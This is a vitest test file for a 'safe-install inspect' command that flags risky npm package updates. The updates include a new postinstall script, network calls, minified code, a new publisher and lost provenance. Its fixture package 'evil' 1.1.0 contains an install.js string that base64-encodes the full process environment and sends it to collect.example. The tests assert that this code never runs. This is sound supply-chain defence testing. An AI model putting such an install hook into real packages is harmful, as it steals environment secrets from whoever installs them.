// `safe-install inspect` against the loopback test registry, on tarballs the tests build: a new version that
// adds a postinstall with a network call and a minified file, a new publisher and lost provenance. The command
// function runs in this process with npm's configuration pointed at the test registry (as `cli()` would with
// `cleanEnv`); the last test runs the built CLI once the command is wired into main.ts.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestRegistry } from '../registry/server.js';
import { cleanEnv, cli, ROOT, tempDir, writeProject } from './helpers.js';
import { buildInspectReport, inspectCommand } from '../../src/cli/inspect.js';
import { GuardError } from '../../src/errors.js';
import type { InspectReport } from '../../src/inspect/types.js';

const OLD = '2024-01-01T00:00:00.000Z';
const NEWER = '2024-02-01T00:00:00.000Z';
const YOUNG = new Date(Date.now() - 3_600_000).toISOString();

let registry: TestRegistry;
let project: string;
let marker: string;
let savedEnv: NodeJS.ProcessEnv;
let tmp: string;

/** ~6 KB of minified code on one line. */
const minified = `!function(){${Array.from({ length: 200 }, (_, i) => `function a${i}(b,c){return b*c+${i}}`).join(';')}}();`;

beforeAll(async () => {
  registry = await TestRegistry.start();
  marker = join(tempDir('si-marker-'), 'ran');
  registry.addPackage({
    name: 'evil',
    versions: [
      {
        version: '1.0.0',
        publishedAt: OLD,
        npmUser: { name: 'alice', email: 'alice@example.com' },
        attestations: { url: `${registry.url}-/npm/v1/attestations/evil@1.0.0`, provenance: { predicateType: 'https://slsa.dev/provenance/v1' } },
        dependencies: { 'left-pad': '^1.0.0' },
        files: { 'index.js': 'module.exports = (a, b) => a + b;\n', 'README.md': '# evil\n' },
      },
      {
        version: '1.1.0',
        publishedAt: YOUNG,
        npmUser: { name: 'mallory', email: 'mallory@example.net' },
        scripts: { postinstall: 'node install.js' },
        dependencies: { 'left-pad': '^1.0.0', 'totally-legit': '1.0.0' },
        files: {
          'index.js': "module.exports = (a, b) => a + b;\nrequire('./dist/payload.min.js');\n",
          'README.md': '# evil\n',
          // Were this ever run, it would leave a marker and phone home.
          'install.js': `const fs = require('fs');\nfs.writeFileSync(${JSON.stringify(marker)}, 'ran');\nconst https = require('https');\nhttps.get('https://collect.example/?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));\n`,
          'dist/payload.min.js': minified,
        },
      },
    ],
  });
  registry.addPackage({
    name: '@scope/tidy',
    versions: [
      { version: '2.0.0', publishedAt: OLD, files: { 'index.js': 'module.exports = 1;\n' } },
      { version: '2.0.1', publishedAt: NEWER, files: { 'index.js': 'module.exports = 2;\n', 'logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]) } },
      { version: '2.1.0-beta.0', publishedAt: '2024-03-01T00:00:00.000Z', files: { 'index.js': 'module.exports = 3;\n' } },
    ],
  });
  project = tempDir('si-inspect-');
  writeProject(project, registry, { evil: '1.0.0' });
});

afterAll(() => registry.close());

// npm's configuration comes from the environment (and `npm test` sets npm_config_* and npm_execpath, the npm that
// ran it, of its own): replace it, so the npm started is the pinned one first on PATH.
beforeEach(() => {
  savedEnv = { ...process.env };
  for (const k of Object.keys(process.env)) if (/^npm_(config_|execpath$)/i.test(k)) delete process.env[k];
  tmp = tempDir('si-tmp-');
  Object.assign(process.env, cleanEnv(registry.url), { TMPDIR: tmp, npm_config_fetch_retries: '0' });
  registry.clearFaults();
});
afterEach(() => {
  for (const k of Object.keys(process.env)) if (!(k in savedEnv)) delete process.env[k];
  Object.assign(process.env, savedEnv);
});

async function capture(fn: () => Promise<number>): Promise<{ code: number; stdout: string }> {
  let stdout = '';
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout += String(chunk);
    return true;
  });
  try {
    const code = await fn();
    return { code, stdout };
  } finally {
    spy.mockRestore();
  }
}

describe('inspect a version that adds a postinstall with a network call and a minified file', () => {
  it('compares with the locked version and reports every change (JSON)', async () => {
    const { code, stdout } = await capture(() => inspectCommand('evil@1.1.0', { cwd: project, json: true }));
    expect(code).toBe(0);
    const r = JSON.parse(stdout) as InspectReport;
    expect(r.name).toBe('evil');
    expect(r.version).toBe('1.1.0');
    expect(r.registry).toBe(registry.url);
    expect(r.against).toEqual({ version: '1.0.0', reason: 'lockfile', detail: 'locked in package-lock.json' });

    expect(r.installScripts.changes).toEqual([{ event: 'postinstall', change: 'added', after: 'node install.js' }]);
    expect(r.installScripts.filesRun).toEqual(['install.js']);
    expect(r.installCalls).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ where: 'install.js', line: 3, kind: 'network', match: 'https', new: true }),
        expect.objectContaining({ where: 'install.js', line: 4, kind: 'network', new: true }),
      ]),
    );
    expect(r.suspiciousCode).toEqual([expect.objectContaining({ path: 'dist/payload.min.js', change: 'added', alreadyInBase: [] })]);
    expect(r.suspiciousCode[0]!.reasons.map((x) => x.code)).toContain('long-lines');

    expect(r.files.added.map((f) => f.path)).toEqual(['dist/payload.min.js', 'install.js']);
    expect(r.files.changed.map((f) => f.path)).toEqual(['index.js', 'package.json']);
    expect(r.files.changed[0]!.diff).toContain("+require('./dist/payload.min.js');");
    expect(r.dependencies).toEqual([{ field: 'dependencies', name: 'totally-legit', change: 'added', after: '1.0.0' }]);
    expect(r.publisher).toEqual({ base: 'alice', target: 'mallory', changed: true });
    expect(r.provenance).toEqual({ base: true, target: false, changed: true });
    expect(r.versions.target.publishedAt).toBe(YOUNG);

    expect(r.summary.concerns.map((c) => c.code)).toEqual(['provenance-lost', 'publisher-changed', 'install-script-added', 'install-network-call', 'obfuscated-code', 'dependency-added']);
    // Nothing from either tarball ran, and the temporary folders are gone.
    expect(existsSync(marker)).toBe(false);
    expect(readdirSync(tmp)).toEqual([]);
  });

  it('prints the human report without colours under NO_COLOR', async () => {
    const { code, stdout } = await capture(() => inspectCommand('evil@1.1.0', { cwd: project }));
    expect(code).toBe(0);
    expect(stdout).not.toContain('\x1b[');
    expect(stdout).toContain('safe-install inspect  evil@1.1.0 against 1.0.0 (locked in package-lock.json)');
    expect(stdout).toContain('nothing from them was run');
    expect(stdout).toMatch(/Concerns \(6\)\n {2}! 1\.0\.0 was published with provenance; 1\.1\.0 is not\n {2}! published by mallory, 1\.0\.0 by alice\n {2}! new postinstall script: node install\.js/);
    expect(stdout).toContain('+ postinstall: node install.js  (new)');
    expect(stdout).toMatch(/! install\.js:3 {2}network https {2}const https = require\('https'\);/);
    expect(stdout).toMatch(/! dist\/payload\.min\.js \(added\) {2}long-lines: 1 line over 1000 characters/);
    expect(stdout).toContain('+ dependencies  totally-legit 1.0.0');
    expect(stdout).toContain('Files: 2 added, 0 removed, 2 changed, 1 unchanged');
    // The new install script is shown whole, first among the diffs.
    expect(stdout).toMatch(/Diffs\n--- \/dev\/null\n\+\+\+ b\/install\.js\n@@ -0,0 \+1,4 @@\n\+const fs = require\('fs'\);/);
    expect(stdout).toContain('6 concerns for evil@1.1.0');
    expect(existsSync(marker)).toBe(false);
  });

  it('without a lockfile, compares with the previous release; min-release-age does not hide the young version', async () => {
    process.env.npm_config_min_release_age = '7';
    const r = await buildInspectReport('evil@latest', { cwd: tempDir('si-nolock-') });
    expect(r.version).toBe('1.1.0');
    expect(r.against).toEqual({ version: '1.0.0', reason: 'previous', detail: 'previous release' });
    expect(r.notes).toContain('latest is 1.1.0');
  });

  it('--against picks the comparison version (reverse direction: the script is removed)', async () => {
    const r = await buildInspectReport('evil@1.0.0', { cwd: project, against: '1.1.0' });
    expect(r.against).toEqual({ version: '1.1.0', reason: 'against', detail: '--against' });
    expect(r.installScripts.changes).toEqual([{ event: 'postinstall', change: 'removed', before: 'node install.js' }]);
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['publisher-changed']);
    expect(r.notes).toContain('package-lock.json locks evil@1.0.0 itself');
  });
});

describe('other packages', () => {
  it('a scoped package: the previous stable release, a binary file, no concerns', async () => {
    const r = await buildInspectReport('@scope/tidy@2.0.1', { cwd: project });
    expect(r.against).toMatchObject({ version: '2.0.0', reason: 'previous' });
    expect(r.files.added).toEqual([{ path: 'logo.png', size: 7, binary: true }]);
    expect(r.summary.concerns).toEqual([]);
  });

  it('the first release is compared with nothing', async () => {
    const r = await buildInspectReport('@scope/tidy@2.0.0', { cwd: project });
    expect(r.against).toBeNull();
    expect(r.files.added.map((f) => f.path)).toEqual(['index.js', 'package.json']);
  });
});

describe('errors are GuardErrors (exit 2), and leave nothing behind', () => {
  async function error(p: Promise<unknown>): Promise<GuardError> {
    const err = await p.then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(GuardError);
    expect(readdirSync(tmp).filter((d) => d.startsWith('safe-install-inspect-'))).toEqual([]);
    return err as GuardError;
  }

  it('an unknown version names the published ones', async () => {
    const err = await error(buildInspectReport('evil@9.9.9', { cwd: project }));
    expect(err.code).toBe('bad-usage');
    expect(err.message).toContain(`evil@9.9.9 is not published on ${registry.url}`);
    expect(err.remedy).toBe('published versions include 1.1.0, 1.0.0; latest is 1.1.0');
  });

  it('an unknown --against version', async () => {
    const err = await error(buildInspectReport('evil@1.1.0', { cwd: project, against: '0.0.1' }));
    expect(err.message).toContain('evil@0.0.1 is not published');
  });

  it('an unknown package', async () => {
    const err = await error(buildInspectReport('no-such-package@1.0.0', { cwd: project }));
    expect(err.code).toBe('registry-error');
    expect(err.message).toBe(`package no-such-package was not found on ${registry.url} (404)`);
    expect(err.remedy).toMatch(/check the name; for a private package/);
  });

  it('a registry that fails', async () => {
    registry.fault('evil', { status: 503 });
    const err = await error(buildInspectReport('evil@1.1.0', { cwd: project }));
    expect(err.code).toBe('registry-error');
    expect(err.message).toContain('the registry answered 503');
  });

  it('a tarball that does not match the lockfile integrity', async () => {
    const dir = tempDir('si-tampered-');
    writeProject(dir, registry, { evil: '1.0.0' });
    const lock = JSON.parse(readFileSync(join(dir, 'package-lock.json'), 'utf8'));
    lock.packages['node_modules/evil'].integrity = registry.integrityOf('evil', '1.1.0');
    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lock));
    const err = await error(buildInspectReport('evil@1.1.0', { cwd: dir }));
    expect(err.code).toBe('registry-error');
    expect(err.message).toMatch(/integrity mismatch downloading the tarball of evil@1\.0\.0/);
  });

  it('a spec without a version', async () => {
    const err = await error(buildInspectReport('evil', { cwd: project }));
    expect(err.message).toBe('give the version to inspect: evil@<version>');
  });
});

// The built CLI, once `inspect` is wired into src/cli/main.ts and built (`npm run build`).
const wired = existsSync(join(ROOT, 'dist', 'cli', 'inspect.js')) && /inspectCommand/.test(readFileSafe(join(ROOT, 'dist', 'cli', 'main.js')));
function readFileSafe(path: string): string {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}

describe.skipIf(!wired)('the built CLI', () => {
  it('exit 0 with the report, exit 2 on an unknown version', async () => {
    const env = cleanEnv(registry.url);
    const ok = await cli(['inspect', 'evil@1.1.0', '--json', '--cwd', project], { cwd: project, env });
    expect(ok.code).toBe(0);
    const r = JSON.parse(ok.stdout) as InspectReport;
    expect(r.summary.concerns.map((c) => c.code)).toContain('install-network-call');
    const bad = await cli(['inspect', 'evil@9.9.9'], { cwd: project, env });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('evil@9.9.9 is not published');
    expect(existsSync(marker)).toBe(false);
  });
});
